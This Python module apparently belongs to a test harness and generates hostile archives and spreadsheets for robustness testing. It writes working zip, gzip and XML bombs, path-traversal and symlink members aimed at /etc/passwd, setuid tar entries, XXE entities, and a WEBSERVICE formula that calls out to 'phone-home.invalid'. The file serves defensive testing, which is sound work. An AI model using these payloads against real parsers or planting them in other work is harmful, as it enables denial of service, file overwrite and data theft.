"""Archives and workbooks that want more than to be read: bombs, ways out of a folder, cells in the last corner."""

import bz2
import gzip
import io
import lzma
import random
import stat
import string
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from bench.fuzzing import mutated
from bench.hostile_parts import HEADER, MEGABYTE, log, write

ELSEWHERE = str(Path(Path.cwd().anchor, "escaped.csv"))
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


# ---- what unpacks to far more than it is --------------------------------------------------------------------------


def deflated(repeats: int, chunk: bytes = b"0" * MEGABYTE) -> bytes:
    """A raw stream of DEFLATE that unpacks to so many chunks, made from one of them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    return once * repeats + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def zip_of(name: str, packed: bytes, says: int, crc: int = 0, *, mode: int = 0, flags: int = 0) -> bytes:
    """A zip of one deflated member that says of itself what it is told to."""
    raw = name.encode("utf-8", "surrogatepass")
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, flags, 8, 0, 0, crc, len(packed), says, len(raw), 0) + raw + packed
    central = (
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\1\2",
            0x0314,
            20,
            flags,
            8,
            0,
            0,
            crc,
            len(packed),
            says,
            len(raw),
            0,
            0,
            0,
            0,
            mode << 16,
            0,
        )
        + raw
    )
    return local + central + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local), 0)


def zip_bomb(folder: Path, rng: random.Random) -> Path:
    """Gigabytes in some megabytes; what it says of its size is true, or far too little."""
    count = rng.randint(500, 3000)
    says = rng.choice((min(count * MEGABYTE, 2**32 - 1), 100))
    return write(folder, "bomb.zip", zip_of("log.csv", deflated(count), says))


def stream_bomb(folder: Path, rng: random.Random) -> Path:
    """The same in what packs a single stream, each of many parts."""
    import pyarrow as pa

    kind = rng.choice(("gz", "bz2", "xz", "zst", "lz4"))
    chunk, parts = b"0" * (8 * MEGABYTE), rng.randint(40, 200)
    pack: dict[str, Callable[[bytes], bytes]] = {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}
    packed = (
        pack[kind](chunk)
        if kind in pack
        else pa.compress(chunk, codec={"zst": "zstd", "lz4": "lz4"}[kind], asbytes=True)
    )
    return write(folder, f"bomb.csv.{kind}", packed * parts)


def nested(folder: Path, rng: random.Random) -> Path:
    """An archive in an archive in an archive."""
    data = rng.choice((log().encode(), deflated(20)))
    for depth in range(rng.randint(2, 6)):
        data = gzip.compress(data) if rng.random() < 0.4 else zipped({f"inner{depth}.zip": data})
    return write(folder, "nested.zip", data)


def zipped(members: dict[str, bytes]) -> bytes:
    """A plain zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def many_members(folder: Path, rng: random.Random) -> Path:
    """An archive of thousands of files."""
    return write(folder, "many.zip", zipped({f"{n}.csv": b"a" for n in range(rng.randint(500, 5000))}))


# ---- ways out of a folder -----------------------------------------------------------------------------------------


def zip_path(folder: Path, rng: random.Random) -> Path:
    """A member that is called after a file elsewhere, or is a link to it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    name = rng.choice(("../../../escaped.csv", ELSEWHERE, "..\\..\\escaped.csv", "C:\\escaped.csv", "a/../../e\0.csv"))
    data, mode = (b"/etc/passwd", stat.S_IFLNK | 0o777) if rng.random() < 0.4 else (log().encode(), 0o100644)
    return write(
        folder, "path.zip", zip_of(name, packer.compress(data) + packer.flush(), len(data), zlib.crc32(data), mode=mode)
    )


def tar_path(folder: Path, rng: random.Random) -> Path:
    """A tar whose member lies elsewhere, is a link, a device, or says that it is endless."""
    out, kind = (
        io.BytesIO(),
        rng.choice((tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE)),
    )
    data = log().encode()
    with tarfile.open(fileobj=out, mode=rng.choice(("w", "w:gz", "w:bz2"))) as archive:
        member = tarfile.TarInfo(rng.choice(("../../escaped.csv", ELSEWHERE, "log.csv", "a/../../x")))
        member.type, member.linkname, member.mode = kind, "/etc/passwd", 0o4777
        member.size = len(data) if kind == tarfile.REGTYPE else 0
        archive.addfile(member, io.BytesIO(data))
        if rng.random() < 0.3:
            archive.addfile(tarfile.TarInfo("log2.csv"))
    return write(folder, "path.tar", out.getvalue())


def tar_lies(folder: Path, rng: random.Random) -> Path:
    """A tar whose member says that it is larger than all disks."""
    member = tarfile.TarInfo("log.csv")
    member.size = rng.choice((1 << 33, 1 << 45, 1 << 60))
    return write(folder, "lies.tar", member.tobuf(tarfile.GNU_FORMAT) + log().encode().ljust(4096, b"\0"))


def symlink(folder: Path, rng: random.Random) -> Path:
    """A link to what is no log of anybody here, or to itself."""
    path = folder / "link.csv"
    path.unlink(missing_ok=True)
    path.symlink_to(rng.choice(("/etc/passwd", "/dev/zero", "link.csv", "/proc/self/mem", "/", "/dev/stdin")))
    return path


# ---- workbooks ----------------------------------------------------------------------------------------------------


def workbook(sheet: str, more: dict[str, bytes] | None = None, prolog: str = "") -> bytes:
    """A workbook of one sheet, as small as the format allows."""
    sheets = '<sheets><sheet name="Log" sheetId="1" r:id="r1"/></sheets>'
    book = f'{prolog}<workbook xmlns="{MAIN}" xmlns:r="{LINKS}">{sheets}</workbook>'
    root = f'<Relationship Id="r1" Type="{LINKS}/officeDocument" Target="xl/workbook.xml"/>'
    part = f'<Relationship Id="r1" Type="{LINKS}/worksheet" Target="worksheets/sheet1.xml"/>'
    return zipped(
        {
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}">{root}</Relationships>'.encode(),
            "xl/workbook.xml": book.encode(),
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">{part}</Relationships>'.encode(),
            "xl/worksheets/sheet1.xml": sheet.encode(),
        }
        | (more or {})
    )


def rows_of_sheet(cells: str) -> str:
    """A sheet with a header and a row, and more cells."""
    head = "".join(
        f'<c r="{at}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for at, name in zip("ABC", HEADER.split(","), strict=True)
    )
    row = '<row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>2</v></c><c r="C2"><v>1600000000</v></c></row>'
    return f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">{head}</row>{row}{cells}</sheetData></worksheet>'


def entities(folder: Path, rng: random.Random) -> Path:
    """Entities that laugh a billion times, or read a file."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    outside = rng.choice(("file:///etc/passwd", "http://phone-home.invalid/x"))
    prolog = rng.choice(
        (f'<!DOCTYPE w [<!ENTITY l0 "lol">{laughs}]>', f'<!DOCTYPE w [<!ENTITY l9 SYSTEM "{outside}">]>')
    )
    cell = '<row r="3"><c r="A3" t="inlineStr"><is><t>&l9;</t></is></c></row>'
    return write(folder, "entities.xlsx", workbook(prolog + rows_of_sheet(cell), prolog=rng.choice(("", prolog))))


def far_cells(folder: Path, rng: random.Random) -> Path:
    """A cell in the last corner of a sheet: what holds all cells between needs hundreds of gigabytes."""
    column, row = rng.choice(("XFD", "ZZ", "FXSHRXX", "C")), rng.choice((1_048_576, 4_294_967_295, 200_000))
    at = rng.choice((f"{column}{row}", f"{column}3"))
    cell = f'<row r="{at.lstrip(string.ascii_uppercase)}"><c r="{at}"><v>9</v></c></row>'
    return write(folder, "far.xlsx", workbook(rows_of_sheet(cell)))


def outside_links(folder: Path, rng: random.Random) -> Path:
    """A workbook with links to others, formulas that call out, and macros."""
    cell = '<row r="3"><c r="A3" t="str"><f>WEBSERVICE("http://phone-home.invalid")</f><v>u9</v></c>'
    cell += '<c r="B3"><f>[1]x!A1</f><v>7</v></c></row>'
    link = f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{LINKS}" r:id="r1"/></externalLink>'
    more = {
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/vbaProject.bin": rng.randbytes(200),
        "xl/connections.xml": b"<connections/>",
        "xl/media/../../escaped.png": b"x",
    }
    return write(folder, "links.xlsx", workbook(rows_of_sheet(cell), more))


def packed_workbook(folder: Path, rng: random.Random) -> Path:
    """A workbook whose one text unpacks to gigabytes, or whose texts repeat one that is long."""
    if rng.random() < 0.5:
        text = rows_of_sheet(
            f'<row r="3"><c r="A3" t="inlineStr"><is><t>{"a" * (rng.choice((30, 220)) * MEGABYTE)}</t></is></c></row>'
        )
        return write(folder, "packed.xlsx", workbook(text))
    shared = f'<sst xmlns="{MAIN}"><si><t>{"a" * MEGABYTE}</t></si></sst>'.encode()
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(3, rng.choice((200, 9000))))
    part = f'<Relationship Id="r1" Type="{LINKS}/worksheet" Target="worksheets/sheet1.xml"/>'
    part += f'<Relationship Id="r2" Type="{LINKS}/sharedStrings" Target="sharedStrings.xml"/>'
    rels = f'<Relationships xmlns="{PACKAGE}">{part}</Relationships>'.encode()
    return write(
        folder,
        "shared.xlsx",
        workbook(rows_of_sheet(rows), {"xl/sharedStrings.xml": shared, "xl/_rels/workbook.xml.rels": rels}),
    )


def injured_pack(folder: Path, rng: random.Random) -> Path:
    """A workbook, a zip or a tar with bytes changed."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        member = tarfile.TarInfo("log.csv")
        member.size = len(log())
        archive.addfile(member, io.BytesIO(log().encode()))
    whole = rng.choice(
        (
            workbook(rows_of_sheet("")),
            zipped({"log.csv": log().encode()}),
            out.getvalue(),
            gzip.compress(log().encode()),
        )
    )
    return write(folder, "injured.zip", mutated(whole, rng))
